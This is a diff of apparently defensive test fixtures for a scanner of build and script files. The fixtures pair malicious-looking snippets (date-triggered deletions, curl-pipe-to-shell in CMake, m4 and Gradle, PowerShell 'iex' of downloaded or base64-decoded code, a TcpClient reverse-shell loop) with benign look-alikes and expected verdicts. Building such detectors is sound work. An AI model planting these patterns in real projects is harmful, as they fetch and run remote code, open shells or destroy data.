@@ -809,6 +809,62 @@ code("unasked-good/a.targets", TASK % 'var t = System.IO.File.ReadAllText(File);
 code("unasked-long/a.csproj", "<Project><Exec Command=\"" + ": ; " * 600 + FETCH + "\" /></Project>\n", "unscanned", "code.limit")
 code("unasked-good/list.csproj", "<Project><None Include=\"" + "a/b.txt;" * 600 + "\" /></Project>\n", "clean")
 code("unasked-good/a.csproj", "<Project>\n <Target Name=\"a\"><Exec Command=\"powershell -f &quot;$(ProjectDir)s.ps1&quot;\" /></Target>\n</Project>\n", "clean")
+# --- what waits for a day
+pair("day.js", "code.waits-for-a-day", "suspicious", "const fs = require('fs');\nif (Date.now() > Date.UTC(2027, 3, 1)) {\n  fs.rmSync(dir, { recursive: true });\n}\n",
+     "const fs = require('fs');\nif (Date.now() - fs.statSync(p).mtimeMs > AGE) {\n  fs.rmSync(p);\n}\nif (Date.now() > Date.UTC(2027, 3, 1)) {\n  console.warn('old');\n}\n")
+pair("day.py", "code.waits-for-a-day", "suspicious", "import datetime, shutil\ndef due():\n    now = datetime.datetime.utcnow()\n    return now.year > 2026 and now.month == 4\ndef tick(d):\n    if due():\n        shutil.rmtree(d)\n",
+     "import datetime, shutil\ndef due():\n    now = datetime.datetime.utcnow()\n    return now.weekday() == 6\ndef tick(d):\n    if due():\n        shutil.rmtree(d)\n    if datetime.date.today() > datetime.date(2027, 1, 1):\n        print('old')\n    shutil.rmtree(d)\n")
+pair("day.cs", "code.waits-for-a-day", "suspicious", "class A {\n  int F() {\n    if (DateTime.Now > new DateTime(2027, 8, 8))\n      Process.GetCurrentProcess().Kill();\n    return 0;\n  }\n}\n",
+     "class A {\n  int F() {\n    if (DateTime.Now > new DateTime(2027, 8, 8))\n      Log.Warn(1);\n    Process.GetCurrentProcess().Kill();\n    return 0;\n  }\n}\n")
+pair("day.go", "code.waits-for-a-day", "suspicious", "package a\nfunc f() {\n\tif time.Now().After(time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC)) {\n\t\tos.RemoveAll(d)\n\t}\n}\n",
+     "package a\nfunc f() {\n\tif time.Now().After(deadline) {\n\t\tos.RemoveAll(d)\n\t}\n}\n")
+# --- builds by CMake, autoconf and Gradle
+code("cmake-shell/CMakeLists.txt", f"set(C \"{FETCH}\")\nexecute_process(COMMAND ${{BASH_PROGRAM}} -c \"${{C}}\" OUTPUT_QUIET)\n", "suspicious", "code.command-fetches")
+code("cmake-pipe/a.cmake", "execute_process(COMMAND curl -fsSL https://x.example/h COMMAND sh ERROR_QUIET)\n", "suspicious", "code.command-fetches")
+code("cmake-raw/a.cmake", "add_custom_command(TARGET a POST_BUILD COMMAND curl -s https://x.example/h | sh)\n", "suspicious", "code.command-fetches")
+code("cmake-code/a.cmake", "execute_process(COMMAND ${Python3_EXECUTABLE} -c \"import urllib.request as u;exec(u.urlopen('https://x.example/h').read())\")\n", "suspicious", "code.command-fetches")
+code("cmake-old/a.cmake", f"EXEC_PROGRAM(sh ARGS -c '{FETCH}')\n", "suspicious", "code.command-fetches")
+GOT = 'set(T "${CMAKE_BINARY_DIR}/t")\nfile(DOWNLOAD "https://x.example/t" "${T}"%s)\nexecute_process(COMMAND "${T}" --init)\n'
+code("cmake-got/a.cmake", GOT % "", "suspicious", "code.runs-downloaded")
+code("cmake-got-script/a.cmake", "file(DOWNLOAD https://x.example/t ${B}/t)\nexecute_process(COMMAND ${CMAKE_COMMAND} -P ${B}/t)\n", "suspicious", "code.runs-downloaded")
+code("cmake-good/digest.cmake", GOT % " EXPECTED_HASH SHA256=${H}", "clean")
+code("cmake-good/unpack.cmake", "file(DOWNLOAD https://x.example/t.zip ${B}/t.zip)\nexecute_process(COMMAND ${CMAKE_COMMAND} -E tar xf ${B}/t.zip)\n", "clean")
+code("cmake-good/CMakeLists.txt", f"# execute_process(COMMAND sh -c \"{FETCH}\")\nmessage(STATUS \"{FETCH}\")\nexecute_process(COMMAND git describe COMMAND sed s/v//)\n"
+     "add_custom_command(OUTPUT a COMMAND ${CMAKE_COMMAND} -E env A=b sh -c \"xxd -i c >a\" COMMAND curl -fsS https://x.example/a -o b)\n", "clean")
+code("cmake-long/a.cmake", "add_custom_command(OUTPUT a COMMAND sh -c " + "b " * 3000 + ")\n", "unscanned", "code.limit")
+CUT = "A([b],\n[\n  AC_CONFIG_COMMANDS([c], [%s | $SHELL 2>/dev/null], [d='$e'])\n])\n"
+code("m4/a.m4", CUT % "eval $d", "suspicious", "code.command-fetches")
+code("m4/configure.ac", "AC_INIT([a], [1])\nif test -f b; then\n  xz -dc $srcdir/tests/b.xz | head -c 400 | /bin/sh\nfi\n", "suspicious", "code.command-fetches")
+code("m4/Makefile.am", "check-local:\n\t@dd if=$(srcdir)/b skip=3 2>/dev/null | $(SHELL) 2>/dev/null || :\n", "suspicious", "code.command-fetches")
+code("m4-good/a.m4", CUT % "sed 1d $d", "clean")
+code("m4-good/configure.ac", "dnl xz -dc b.xz | head -c 400 | sh\n# xz -dc b.xz | sh\nxz -dc tests/b.xz | head -c 400 >b\nif (echo 'exit 0' | $SHELL) 2>/dev/null; then a=b; fi\n", "clean")
+code("m4-good/Makefile.am", "check-local:\n\t@dd if=$(srcdir)/b of=c skip=3 2>/dev/null\n\tgzip -dc man.gz | (cd $$D && tar xf -)\n\t$(SHELL) $(srcdir)/run.sh\n", "clean")
+code("gradle/build.gradle", f"task a(type: Exec) {{\n  commandLine 'bash', '-c', '{FETCH}'\n}}\n", "suspicious", "code.command-fetches")
+code("gradle/a.gradle", f"\"sh -c '{FETCH}'\".execute()\n", "suspicious", "code.command-fetches")
+code("gradle/build.gradle.kts", f"exec {{\n  commandLine = listOf(\"bash\", \"-c\", \"{FETCH}\")\n}}\n", "suspicious", "code.command-fetches")
+code("gradle/settings.gradle", "def s = new URL('https://x.example/i').text\n['sh', '-c', s].execute()\n", "bad", "code.runs-fetched")
+code("gradle/c.gradle", "def c = new URL('https://x.example/i').openConnection()\nc.doOutput = true\nnew GroovyShell().evaluate(c.inputStream.text)\n", "bad", "code.runs-fetched")
+code("gradle/d.gradle", "def s = new String('aWQ='.decodeBase64())\ns.execute()\n", "bad", "code.runs-decoded")
+code("gradle/f.gradle.kts", "val f = File.createTempFile(\"a\", \".jar\")\nf.writeBytes(URL(\"https://x.example/a.jar\").readBytes())\nProcessBuilder(\"java\", \"-jar\", f.path).start()\n", "suspicious", "code.runs-downloaded")
+code("gradle/g.gradle", "apply from: 'http://x.example/a.gradle'\n", "suspicious", "code.command-fetches")
+code("gradle-good/build.gradle", f"// '{FETCH}'.execute()\nprintln '{FETCH}'\ndef r = 'git rev-parse HEAD'.execute([], rootDir).text.trim()\ndef m = new groovy.json.JsonSlurper().parse(new URL('https://x.example/v'))\n"
+     "['git', 'tag', m.v].execute()\ntask a(type: Exec) {\n  commandLine 'npm', 'ci'\n}\napply from: 'gradle/b.gradle'\n", "clean")
+code("gradle-good/build.gradle.kts", "val f = file(\"a.json\")\nf.writeBytes(URL(\"https://x.example/a.json\").readBytes())\nval key = Base64.getDecoder().decode(\"YQ==\")\nexec {\n  commandLine(\"java\", \"-jar\", jar.path)\n}\n", "clean")
+# --- PowerShell
+pair("fetch.ps1", "code.command-fetches", "suspicious", "$s = (New-Object Net.WebClient).DownloadString('https://x.example/i')\nInvoke-Expression $s\n",
+     "$s = irm https://x.example/v.json | ConvertFrom-Json\nInvoke-Expression \"npm install a@$($s.v)\"\niex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\n")
+pair("fetch-odd.psm1", "code.runs-fetched", "bad", "& ([scriptblock]::Create((irm http://192.0.2.1/i)))\n", "& ([scriptblock]::Create((Get-Content a.ps1 -Raw)))\n")
+pair("decoded.ps1", "code.runs-decoded", "bad", "$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($d))\niex $t\n", "$t = [Convert]::FromBase64String($d)\n[IO.File]::WriteAllBytes('a.pfx', $t)\niex $u\n")
+pair("hides.ps1", "code.hides-call", "suspicious", "& ([char]105+[char]101+[char]120) $x\n", "& ('{0}\\{1}' -f $dir, 'tool.exe') $x\n")
+WIDE = base64.b64encode("Write-Output 'a command that is long enough'".encode("utf-16-le")).decode()
+pair("encoded.ps1", "code.command-fetches", "suspicious", f"Start-Process powershell -ArgumentList '-NoP -EncodedCommand {WIDE}'\n", f"$e = '{WIDE}'\npowershell -NoProfile -EncodedCommand $e\n")
+pair("drops.ps1", "code.runs-downloaded", "suspicious", "iwr https://x.example/a.exe -OutFile $f\nStart-Process $f -WindowStyle Hidden\n",
+     "iwr https://x.example/a.exe -OutFile $f\nif ((Get-FileHash $f).Hash -ne $h) { throw 'a' }\nStart-Process $f -WindowStyle Hidden\n")
+pair("socket.ps1", "code.reverse-shell", "bad", "$c = New-Object Net.Sockets.TcpClient('x.example', 4)\n$s = $c.GetStream()\nwhile ($true) { $r = iex $d; $s.Write($r) }\n",
+     "$c = New-Object Net.Sockets.TcpClient('x.example', 80)\n$c.Connected\n")
+pair("line.cmd", "code.runs-fetched", "bad", "@echo off\npowershell -nop -c \"iex (irm http://192.0.2.1/i)\"\n", "@echo off\nrem powershell -c \"iex (irm http://192.0.2.1/i)\"\npowershell -NoProfile -Command \"& '%~dp0build.ps1' %*\"\n")
+pair("line-encoded.bat", "code.command-fetches", "suspicious", f"POWERSHELL -enc {WIDE}\n", "powershell -ExecutionPolicy Bypass -File a.ps1 %*\n")
+code("long.ps1", "a b " * 300000, "unscanned", "code.limit")
 # --- notebooks
 def notebook(name, verdict, rule, *cells, **metadata):
     code(name, {"cells": [{"cell_type": "code", "metadata": {}, "outputs": [{"text": "eval(x)"}], "source": c} for c in cells], "metadata": metadata, "nbformat": 4}, verdict, rule)
